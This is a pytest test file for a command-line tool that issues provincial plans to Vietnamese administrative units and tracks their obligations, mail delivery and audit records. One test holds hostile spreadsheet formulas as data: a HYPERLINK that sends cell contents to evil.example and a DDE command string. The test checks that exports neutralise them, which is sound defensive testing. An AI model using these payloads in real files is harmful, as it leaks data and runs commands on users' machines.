"""Defects found by a trial and an attack on issuing a plan: each fails on the code before its fix."""

from __future__ import annotations

import dataclasses
import json
import threading
from datetime import date
from pathlib import Path

import pytest

from tests.cli_runner import make_cli, one_error
from tests.factories import PlanSpec, plan_docx

NOW = "2026-11-23T09:00:00+07:00"


def plan_file(tmp_path: Path, name: str = "ke-hoach.docx", **changes: object) -> Path:
    spec = PlanSpec(
        so_ky_hieu="120/KH-UBND",
        parent_body="",
        issuer_body="ỦY BAN NHÂN DÂN TỈNH VĨNH LONG",
        place="Vĩnh Long",
        issued_on=date(2026, 11, 20),
        noi_nhan=["UBND các xã, phường;", "Lưu: VT, NC."],
        body=["Các xã, phường xây dựng kế hoạch, gửi về trước ngày 15 tháng 12 năm 2026; định kỳ hằng năm báo cáo."],
    )
    spec = dataclasses.replace(spec, **changes)
    path = tmp_path / name
    path.write_bytes(plan_docx(spec))
    return path


@pytest.fixture
def cli(sqlite_db: str, tmp_path: Path, smtp, prefect_api: str):
    c = make_cli(tmp_path, sqlite_db, smtp.port, prefect_api, NOW)
    c("units", "import-provinces", "Vĩnh Long", "--email-domain", "example.vn")
    return c


@pytest.fixture
def offline(sqlite_db: str, tmp_path: Path):
    """A runner for what needs neither mail nor Prefect (previews, imports)."""
    return make_cli(tmp_path, sqlite_db, None, None, NOW)


# Wrong people


def test_units_named_after_a_class_word_are_exactly_those(offline, tmp_path: Path) -> None:
    offline("units", "import-provinces", "Bắc Ninh", "--email-domain", "example.vn")
    plan = plan_file(
        tmp_path,
        issuer_body="ỦY BAN NHÂN DÂN TỈNH BẮC NINH",
        noi_nhan=["UBND các xã: Yên Thế, Bố Hạ, Nhã Nam;", "UBND các xã: Tân Yên, Không Có Thật;", "Lưu: VT."],
    )
    p = offline.json("plan", "issue", str(plan), "--issuer", "24", "--dry-run")
    names = sorted(r["name"] for r in p["recipients"] if r["role"] == "thuc_hien")
    assert names == ["Xã Bố Hạ", "Xã Nhã Nam", "Xã Tân Yên", "Xã Yên Thế"]  # not the 99 communes
    assert len(p["unresolved"]) == 1 and "Không Có Thật" in p["unresolved"][0]


def test_a_line_naming_a_body_outside_the_tree_is_listed_not_matched_by_a_word(offline, tmp_path: Path) -> None:
    offline("units", "import-provinces", "Vĩnh Long", "--email-domain", "example.vn")
    lines = ["Sở Nội vụ tỉnh Vĩnh Long;", "Các đồng chí Ủy viên Ban Thường vụ Tỉnh ủy;", "Lưu: VT."]
    p = offline.json("plan", "issue", str(plan_file(tmp_path, noi_nhan=lines)), "--issuer", "86", "--dry-run")
    assert p["recipients"] == [] and p["unresolved"] == [lines[0], lines[1]]


def test_rejected_is_final_for_that_file(cli, smtp, tmp_path: Path) -> None:
    plan = plan_file(tmp_path)
    ref = cli.json("plan", "issue", str(plan), "--issuer", "86")["ref"]
    cli("approve", ref, "--reject", "--reason", "Sai hạn", "--by", "Lãnh đạo")
    r = cli("approve", ref, "--by", "Lãnh đạo", check=False)
    assert "đã bị từ chối" in one_error(r) and r.returncode == 2
    r = cli("plan", "issue", str(plan), "--issuer", "86", "--yes", check=False)
    assert "đã bị từ chối" in one_error(r)
    assert smtp.collector.received == [] and cli.json("plan", "status", ref)["counts"]["total"] == 0
    # the corrected plan is a new registration, under the same number
    fixed = plan_file(tmp_path, "ke-hoach-da-sua.docx", subject="Kế hoạch đã sửa hạn nộp")
    out = cli.json("plan", "issue", str(fixed), "--issuer", "86", "--yes")
    assert out["ref"] != ref and out["status"] == "dispatched" and out["so_ky_hieu"] == "120/KH-UBND"
    assert cli.json("plan", "status", "120/KH-UBND")["ref"] == out["ref"]
    r = cli("approve", out["ref"], "--reject", "--reason", "muộn", "--by", "Lãnh đạo", check=False)
    assert "đã ban hành" in one_error(r)


def test_a_plan_with_nobody_to_act_is_never_dispatched(cli, smtp, tmp_path: Path) -> None:
    plan = str(plan_file(tmp_path))
    r = cli("plan", "issue", plan, "--issuer", "86", "--to", "NOPE", "--yes", "--json", check=False)
    assert r.returncode == 2
    out = json.loads(r.stdout)
    assert out["status"] == "awaiting_approval" and out["obligations"] == 0 and out["unresolved"] == ["NOPE"]
    r = cli("approve", out["ref"], "--by", "Lãnh đạo", check=False)
    assert "chưa có đơn vị nào phải thực hiện" in one_error(r)
    again = cli.json("plan", "issue", plan, "--issuer", "86", "--to", "descendants", "--yes")
    assert again["ref"] == out["ref"] and again["status"] == "dispatched" and again["obligations"] == 248
    assert len(smtp.collector.by_recipient()) == 124
    r = cli("plan", "issue", plan, "--issuer", "86", "--to", "children", check=False)
    assert "đã ban hành" in one_error(r)  # the recipients of a dispatched plan stay as sent


def test_a_due_date_in_the_past_is_refused(cli, smtp, tmp_path: Path) -> None:
    plan = str(plan_file(tmp_path))
    for args in (("--due", "2020-01-01", "--yes"), ("--due", "2020-01-01", "--dry-run")):
        r = cli("plan", "issue", plan, "--issuer", "86", *args, check=False)
        assert "đã qua" in one_error(r)
    assert smtp.collector.received == [] and cli.json("plan", "list") == []
    r = cli("plan", "issue", plan, "--issuer", "86", "--due", "2020-01-01", "--allow-past", "--yes", check=False)
    assert "cần lý do" in one_error(r)
    out = cli.json(
        "plan", "issue", plan, "--issuer", "86", "--due", "2026-11-20", "--allow-past", "--reason", "Nộp bù", "--yes"
    )
    assert out["status"] == "dispatched"
    from models.audit import list_audit
    from models.db import session_scope

    with session_scope() as s:
        reasons = [
            a.reason
            for a in list_audit(session=s, limit=10_000)
            if a.action in ("plan.submit_for_approval", "plan.approve")
        ]
    assert "Nộp bù" in reasons
    code = cli.json("plan", "status", out["ref"])["units"][0]["code"]
    extend = ("extend", out["ref"], "--unit", code, "--requirement", "ke-hoach", "--reason", "x")
    r = cli(*extend, "--to", "2026-11-01", check=False)
    assert "đã qua" in one_error(r)


def test_submit_goes_to_the_obligation_the_file_answers(cli, smtp, tmp_path: Path) -> None:
    ref = cli.json("plan", "issue", str(plan_file(tmp_path)), "--issuer", "86", "--yes")["ref"]
    codes = sorted({u["code"] for u in cli.json("plan", "status", ref)["units"]})
    unit_plan = tmp_path / "kh-xa.docx"
    unit_plan.write_bytes(plan_docx(PlanSpec(so_ky_hieu="05/KH-UBND", issuer_body="ỦY BAN NHÂN DÂN XÃ")))
    cli("submit", ref, "--unit", codes[0], str(unit_plan))
    second = tmp_path / "kh-xa-2.docx"
    second.write_bytes(plan_docx(PlanSpec(so_ky_hieu="06/KH-UBND", issuer_body="ỦY BAN NHÂN DÂN XÃ")))
    cli("submit", ref, "--unit", codes[0], str(second))  # a second copy of its plan: version 2 of the plan
    mine = {u["requirement"]: u for u in cli.json("plan", "status", ref)["units"] if u["code"] == codes[0]}
    assert mine["submit_plan"]["state"] == "submitted" and mine["periodic_report"]["state"] == "pending"
    # an exempted unit's plan is refused, not filed as its annual report
    cli("exempt", ref, "--unit", codes[1], "--requirement", "ke-hoach", "--reason", "Giải thể")
    r = cli("submit", ref, "--unit", codes[1], str(unit_plan), check=False)
    assert "miễn nộp" in one_error(r)
    extend = ("extend", ref, "--unit", codes[1], "--requirement", "ke-hoach", "--reason", "x")
    r = cli(*extend, "--to", "2027-01-08", check=False)
    assert "miễn nộp" in one_error(r)
    other = {u["requirement"]: u for u in cli.json("plan", "status", ref)["units"] if u["code"] == codes[1]}
    assert other["periodic_report"]["state"] == "pending" and other["submit_plan"]["due"] == "2026-12-15"


def test_resend_to_a_new_address_revokes_the_old_link(cli, smtp, tmp_path: Path) -> None:
    import re

    ref = cli.json("plan", "issue", str(plan_file(tmp_path)), "--issuer", "86", "--yes")["ref"]
    code = sorted({u["code"] for u in cli.json("plan", "status", ref)["units"]})[0]
    (old_msg,) = smtp.collector.by_recipient()[f"{code}@example.vn"]
    old = re.findall(r"/nop/(\S+)", old_msg.get_body(("plain",)).get_content())[0]
    cli("units", "set-email", code, "vanthu.moi@example.vn")
    cli("plan", "resend", ref, "--unit", code)
    (new_msg,) = smtp.collector.by_recipient()["vanthu.moi@example.vn"]
    new = re.findall(r"/nop/(\S+)", new_msg.get_body(("plain",)).get_content())[0]
    from tasks.links import verify_link

    assert not verify_link(old).valid and verify_link(new).writable


def test_two_issues_at_once_write_one_audit_entry_per_obligation(cli, smtp, tmp_path: Path) -> None:
    plan = str(plan_file(tmp_path))
    ref = cli.json("plan", "issue", plan, "--issuer", "86")["ref"]
    results = []
    threads = [
        threading.Thread(target=lambda: results.append(cli("approve", ref, "--by", "A", check=False))) for _ in range(2)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(r.returncode for r in results)[0] == 0
    from models.audit import list_audit
    from models.db import session_scope

    with session_scope() as s:
        entries = list_audit(session=s, limit=10_000)
    opened = [a.obligation_id for a in entries if a.action == "obligation.open"]
    assert len(opened) == len(set(opened)) == 248
    assert sum(a.action == "plan.dispatch" for a in entries) == 1
    assert sum(len(m) for m in smtp.collector.by_recipient().values()) == 124


def test_exports_write_formulas_as_text(cli, tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    csv_in = tmp_path / "don-vi.csv"
    rows = [f'T{i},"{h.replace(chr(34), chr(34) * 2)}",truong,86,t{i}@example.vn' for i, h in enumerate(hostile)]
    csv_in.write_text("code,name,kind,parent_code,email\n" + "\n".join(rows) + "\n", encoding="utf-8")
    cli("units", "import", str(csv_in))
    plan = plan_file(tmp_path, noi_nhan=["Các trường;", "Lưu: VT."])
    ref = cli.json("plan", "issue", str(plan), "--issuer", "86", "--yes")["ref"]
    cli("plan", "status", ref, "--csv", str(tmp_path / "t.csv"), "--xlsx", str(tmp_path / "t.xlsx"))
    text = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    for h in hostile:
        assert f",'{h}" in text.replace('""', '"') or f"\"'{h}" in text.replace('""', '"'), h
    from openpyxl import load_workbook

    cells = [c for row in load_workbook(tmp_path / "t.xlsx").active.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert set(hostile) <= {c.value for c in cells}


def test_a_refused_issue_keeps_nothing_and_says_one_line(cli, tmp_path: Path) -> None:
    plan = str(plan_file(tmp_path))
    r = cli("plan", "issue", plan, "--issuer", "99999", "--yes", check=False)
    assert "99999" in one_error(r)
    r = cli("plan", "issue", plan, "--issuer", "86", "--due", "2020-01-01", "--yes", check=False)
    assert "đã qua" in one_error(r)
    files = tmp_path / "var" / "files"
    assert not files.exists() or [p.name for p in files.iterdir()] == []
    assert cli.json("plan", "list") == []


def test_a_message_refused_for_good_shows_in_the_json(sqlite_db: str, tmp_path: Path, prefect_api: str) -> None:
    from aiosmtpd.controller import Controller

    from tests.smtp import Collector, free_port

    class Refusing(Collector):
        async def handle_RCPT(self, server, session, envelope, address, options) -> str:
            if address.startswith("28"):  # the wards whose code starts 28 have no such mailbox
                return "550 5.1.1 Hộp thư không tồn tại"
            envelope.rcpt_tos.append(address)
            return "250 OK"

    handler = Refusing()
    ctl = Controller(handler, hostname="127.0.0.1", port=free_port())
    ctl.start()
    try:
        c = make_cli(tmp_path, sqlite_db, ctl.port, prefect_api, NOW)
        c("units", "import-provinces", "Vĩnh Long", "--email-domain", "example.vn")
        out = c.json("plan", "issue", str(plan_file(tmp_path)), "--issuer", "86", "--yes")
        human = c("plan", "status", out["ref"]).stdout
    finally:
        ctl.stop()
    refused = sorted(f["to_addr"] for f in out["mail_failures"])
    assert refused and all(a.startswith("28") for a in refused)
    assert out["send"]["failed"] == len(refused) and out["send"]["sent"] == 124 - len(refused)
    assert all(f["last_reply"].startswith("550") for f in out["mail_failures"])
    assert "thư gửi lỗi" in human
